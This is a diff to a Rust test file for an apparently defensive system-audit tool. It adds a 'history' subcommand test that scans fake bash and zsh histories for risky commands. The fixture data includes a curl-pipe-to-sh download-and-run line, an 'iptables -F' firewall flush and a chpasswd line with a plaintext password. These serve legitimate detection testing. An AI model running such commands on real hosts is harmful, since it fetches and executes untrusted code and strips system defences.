@@ -31,12 +31,13 @@ use std::sync::OnceLock;
 use std::time::SystemTime;
 
 /// Every example; checked against `examples/*.rs`, so that a new one cannot go untested.
-const EXAMPLES: [&str; 10] = [
+const EXAMPLES: [&str; 11] = [
     "accounts",
     "authlog",
     "baseline",
     "harden",
     "logins",
+    "history",
     "pkgverify",
     "procs",
     "rpmdb",
@@ -269,9 +270,9 @@ fn help_goes_to_stdout_with_exit_0() {
             seen += 1;
         }
     }
-    // 10 examples, plus the subcommands of accounts (4), baseline (3), procs (7), harden (1) and
+    // 11 examples, plus the subcommands of accounts (4), baseline (3), procs (7), harden (1) and
     // logins (5).
-    assert_eq!(seen, 10 + 4 + 3 + 7 + 1 + 5);
+    assert_eq!(seen, 11 + 4 + 3 + 7 + 1 + 5);
 }
 
 #[test]
@@ -945,6 +946,79 @@ printf 'doc\n' > %{buildroot}/etc/ex/gone
     );
     assert_eq!(p.code, 2, "{}: {}", p.what, p.stderr);
     assert!(p.stderr.contains("no dpkg database"), "{}", p.stderr);
+}
+
+#[test]
+fn history_lists_classified_commands_per_user() {
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path();
+    let put = |rel: &str, data: &str| {
+        let p = r.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, data).unwrap();
+    };
+    put(
+        "etc/passwd",
+        "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n",
+    );
+    put(
+        "home/ann/.bash_history",
+        "ls\ncurl -s http://203.0.113.9/x.sh | sh\necho 'ann:S3cret' | chpasswd\n",
+    );
+    put("root/.zsh_history", ": 1700000000:0;iptables -F\n");
+    let root = r.as_os_str();
+    let j = run_in(
+        manifest_dir(),
+        &[
+            OsStr::new("history"),
+            OsStr::new("--root"),
+            root,
+            OsStr::new("--json"),
+        ],
+    );
+    assert_eq!(j.code, 1, "{}", j.stderr);
+    let v = j.json();
+    let ids: Vec<(&str, &str)> = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| (f["id"].as_str().unwrap(), f["subject"].as_str().unwrap()))
+        .collect();
+    assert!(
+        ids.contains(&("history.download-execute", "ann")),
+        "{ids:?}"
+    );
+    assert!(
+        ids.contains(&("history.firewall-disable", "root")),
+        "{ids:?}"
+    );
+    assert_eq!(v["commands_total"], 4);
+    assert!(!j.stdout_text().contains("S3cret"));
+    // --user and --all: every line of one user, in text.
+    let a = run_in(
+        manifest_dir(),
+        &[
+            OsStr::new("history"),
+            OsStr::new("--root"),
+            root,
+            OsStr::new("--user"),
+            OsStr::new("ann"),
+            OsStr::new("--all"),
+        ],
+    );
+    assert_eq!(a.code, 1, "{}", a.stderr);
+    let text = a.stdout_text();
+    assert!(text.contains("/home/ann/.bash_history:1: ann ls"), "{text}");
+    assert!(text.contains("  [download-execute"), "{text}");
+    // One finding per problem: the download inside a download-and-run is not a second one.
+    assert!(!text.contains("history.download:"), "{text}");
+    assert!(!text.contains("iptables"), "{text}");
+    assert!(
+        a.stderr
+            .contains("read /home/ann/.bash_history [bash]: 3 commands"),
+        "{}",
+        a.stderr
+    );
 }
 
 #[test]
